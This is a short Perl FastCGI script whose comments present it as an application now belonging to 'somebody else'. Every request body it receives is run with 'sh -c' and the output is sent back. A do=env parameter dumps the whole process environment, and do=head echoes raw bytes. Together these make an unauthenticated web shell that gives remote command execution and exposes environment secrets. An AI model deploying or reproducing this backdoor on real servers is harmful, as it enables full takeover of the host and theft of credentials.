#!/usr/bin/perl
# SPDX-License-Identifier: Apache-2.0
# An application that belongs to somebody else by now: it runs what it is sent with the shell and shows what comes of it.
# QUERY_STRING do=env: its parameters; do=head: the body is its answer, head and all.
use strict;
use warnings;
use FCGI;

my %env;
my $request = FCGI::Request(\*STDIN, \*STDOUT, \*STDERR, \%env);
while ($request->Accept >= 0) {
    my ($body, $query) = ('', $env{QUERY_STRING} // '');
    read STDIN, $body, $env{CONTENT_LENGTH} if $env{CONTENT_LENGTH};
    if ($query =~ /do=env/) {
        print "Content-Type: text/plain\r\n\r\n", map { "$_=$env{$_}\n" } sort keys %env;
    } elsif ($query =~ /do=head/) {
        print $body;
    } else {
        $request->Detach;
        open my $sh, '-|', 'sh', '-c', "exec 2>&1\n$body" or die;
        my $out = do { local $/; <$sh> } // '';
        close $sh;
        $request->Attach;
        print "Content-Type: text/plain\r\n\r\n$out";
    }
    $request->Finish;
}
